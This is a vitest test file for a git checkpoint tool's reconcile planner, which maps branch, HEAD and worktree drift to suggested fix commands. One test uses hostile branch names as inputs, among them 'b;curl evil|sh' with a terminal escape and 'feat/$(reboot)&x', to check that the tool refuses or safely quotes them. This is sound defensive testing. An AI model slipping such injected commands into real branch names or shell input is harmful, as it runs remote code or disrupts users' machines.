import { describe, expect, it } from 'vitest';
import { planReconcile, type ReconcileFacts } from '../../../../src/checkpoint/planners/reconcile.js';
import { emptyContent, SCHEMA_ID, type CheckpointRecord, type WorktreeFile } from '../../../../src/checkpoint/record/schema.js';
import { renderReconcile } from '../../../../src/render/reconcile.js';

const H1 = '1'.repeat(40);
const H2 = '2'.repeat(40);
const [A, B, C] = ['a'.repeat(40), 'b'.repeat(40), 'c'.repeat(40)];

function record(git: Partial<CheckpointRecord['git']> = {}, files: WorktreeFile[] = []): CheckpointRecord {
  return {
    schema: SCHEMA_ID, id: '20261129-100000-abcd', createdAt: '2026-11-29T10:00:00Z', writer: 'ada-abc123',
    author: { name: 'Ada', email: 'ada@example.com' }, parents: [], ...emptyContent(),
    git: {
      branch: 'main', head: H1, upstream: null, ahead: 0, behind: 0, commits: [],
      worktree: { collected: true, total: files.length, truncated: false, files }, wip: null, notCollected: [], ...git,
    },
    redactions: {},
  };
}

const file = (path: string, oid: string | null, status = '.M'): WorktreeFile => ({ path, status, staged: false, oid });

function facts(over: Partial<ReconcileFacts> = {}): ReconcileFacts {
  return {
    currentBranch: 'main', currentHead: H1, branchExists: true, remoteBranches: [],
    head: { relation: 'same', count: 0, countIsLowerBound: false, commits: [] },
    dirty: [], hashes: new Map(), wipBlobs: new Map(), ...over,
  };
}

describe('planReconcile: branch', () => {
  it('prints no command for a stored branch name git would refuse, only a warning, and nothing raw', () => {
    for (const hostile of ['b;curl evil|sh \x1b]0;owned\x07', '-Cmain', '--orphan=x', 'a..b', 'x.lock', 'HEAD', 'b\u202ettx']) {
      const r = planReconcile(record({ branch: hostile }), facts());
      expect(r.branch, hostile).toMatchObject({ verdict: 'mismatch', fix: null, unsafeName: true });
      const text = renderReconcile(r, { color: false, maxPaths: 20, heading: false });
      expect(text).not.toContain('fix: git switch');
      expect(text).toContain("warning: no command printed: git would not take this branch name as it is (or it starts with '-')");
      expect(text).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
    }
  });

  it('quotes a name git accepts that the shell would not take bare, after --', () => {
    const r = planReconcile(record({ branch: 'feat/$(reboot)&x' }), facts());
    expect(r.branch.fix).toBe("git switch -- 'feat/$(reboot)&x'");
  });

  it.each([
    ['match', facts(), 'match', null],
    ['another branch', facts({ currentBranch: 'other' }), 'mismatch', 'git switch -- main'],
    ['gone, one remote has it', facts({ currentBranch: 'other', branchExists: false, remoteBranches: ['origin/main'] }), 'missing', 'git switch -- main'],
    ['gone, two remotes', facts({ currentBranch: null, branchExists: false, remoteBranches: ['a/main', 'b/main'] }), 'missing', 'git switch -c main --track -- a/main'],
    ['gone everywhere', facts({ currentBranch: 'other', branchExists: false }), 'missing', 'git fetch && git switch -- main'],
  ] as const)('%s → %s', (_name, f, verdict, fix) => {
    const r = planReconcile(record(), f);
    expect(r.branch).toMatchObject({ verdict, fix });
    expect(r.drift).toBe(verdict !== 'match');
  });

  it('asks to detach when the checkpoint was saved on a detached HEAD', () => {
    expect(planReconcile(record({ branch: null }), facts()).branch).toMatchObject({ verdict: 'mismatch', fix: 'git switch --detach 1111111' });
    expect(planReconcile(record({ branch: null }), facts({ currentBranch: null })).branch.verdict).toBe('match');
  });
});

describe('planReconcile: head', () => {
  it.each([
    ['same', false, null], ['ahead', false, null], ['behind', true, 'git log --oneline HEAD..1111111'],
    ['diverged', true, 'git log --oneline --left-right 1111111...HEAD'], ['missing', true, 'git fetch'],
  ] as const)('%s: drift %s', (relation, drift, fix) => {
    const r = planReconcile(record(), facts({ currentHead: H2, head: { relation, count: 2, countIsLowerBound: false, commits: [] } }));
    expect(r.head).toMatchObject({ verdict: relation, recorded: H1, current: H2, count: 2, fix });
    expect(r.drift).toBe(drift);
  });
});

describe('planReconcile: worktree', () => {
  const saved = record({}, [file('same.txt', A), file('edited.txt', A), file('committed.txt', B), file('lost.txt', C), file('gone.txt', null, '.D')]);

  it('sorts every path into its verdict; only unrecorded and changed are drift', () => {
    const r = planReconcile(saved, facts({
      dirty: ['same.txt', 'edited.txt', 'new.txt', 'gone.txt'],
      hashes: new Map([['same.txt', A], ['edited.txt', B], ['committed.txt', B], ['lost.txt', A], ['new.txt', C], ['gone.txt', null]]),
    }));
    expect(r.worktree).toEqual({
      unrecorded: ['new.txt'], changed: ['edited.txt'], resolved: ['committed.txt'], absent: ['lost.txt'], notCompared: 0,
      fixes: ['git checkpoint diff 20261129-100000-abcd'], noSnapshot: 'saved without one: --no-wip or checkpoint.wip=false',
    });
    expect(r.drift).toBe(true);
  });

  it('offers apply for absent work only when there is a wip snapshot', () => {
    const f = facts({ hashes: new Map([['same.txt', null], ['edited.txt', A], ['committed.txt', B], ['lost.txt', C], ['gone.txt', null]]) });
    expect(planReconcile(saved, f).worktree).toMatchObject({ absent: ['same.txt'], resolved: ['committed.txt', 'edited.txt', 'gone.txt', 'lost.txt'], fixes: [] });
    const withWip = record({ ...saved.git, wip: { tree: C, excluded: [] } }, saved.git.worktree.files);
    expect(planReconcile(withWip, f)).toMatchObject({ drift: false, worktree: { fixes: ['git checkpoint apply 20261129-100000-abcd'], noSnapshot: null } });
    // A snapshot that could not be written, or one this clone does not hold: no apply, and why.
    const failed = record({ ...saved.git, notCollected: [{ section: 'wip', reason: 'the snapshot could not be written: ENOSPC: no space left on device, write' }] }, saved.git.worktree.files);
    expect(planReconcile(failed, f).worktree).toMatchObject({
      fixes: [], noSnapshot: 'not collected at save time: the snapshot could not be written: ENOSPC: no space left on device, write',
    });
    expect(planReconcile(withWip, { ...f, wipTreeMissing: true }).worktree).toMatchObject({
      fixes: [], noSnapshot: expect.stringMatching(/^its tree [0-9a-f]{7} is not in this clone/),
    });
  });

  it('offers no apply when the snapshot left every absent path out, and says why', () => {
    const env = file('.env', null);
    const secret = record({ wip: { tree: C, excluded: [{ path: '.env', reason: 'pattern' }] } }, [{ ...env, withheld: 'pattern' }]);
    expect(planReconcile(secret, facts({ hashes: new Map([['.env', null]]) })).worktree).toMatchObject({
      absent: ['.env'], fixes: [], noSnapshot: 'the snapshot left it out (pattern)',
    });
    // One absent path the snapshot holds: apply brings that one back.
    const both = record({ wip: { tree: C, excluded: [{ path: '.env', reason: 'pattern' }] } }, [{ ...env, withheld: 'pattern' }, file('lost.txt', A)]);
    expect(planReconcile(both, facts({ hashes: new Map([['.env', null], ['lost.txt', null]]) })).worktree).toMatchObject({
      absent: ['.env', 'lost.txt'], fixes: ['git checkpoint apply 20261129-100000-abcd'], noSnapshot: null,
    });
  });

  it('judges paths a truncated record does not list by the wip tree, or leaves them uncompared', () => {
    const wt = { collected: true, total: 4, truncated: true, files: [file('listed.txt', A, '??')] };
    const f = facts({
      dirty: ['listed.txt', 'in-wip.txt', 'edited-since.txt', 'brand-new.txt', '.env'],
      hashes: new Map([['listed.txt', A], ['in-wip.txt', B], ['edited-since.txt', C], ['brand-new.txt', A], ['.env', A]]),
      wipBlobs: new Map([['in-wip.txt', B], ['edited-since.txt', B], ['brand-new.txt', null], ['.env', null]]),
    });
    const withWip = planReconcile(record({ worktree: wt, wip: { tree: C, excluded: [{ path: '.env', reason: 'pattern' }] } }), f);
    expect(withWip.worktree).toMatchObject({ changed: ['edited-since.txt'], unrecorded: ['brand-new.txt'], notCompared: 1 });
    const withoutWip = planReconcile(record({ worktree: wt }), { ...f, wipBlobs: new Map() });
    expect(withoutWip.worktree).toMatchObject({ changed: [], unrecorded: [], notCompared: 4 });
    expect(withoutWip.drift).toBe(false);
  });
});
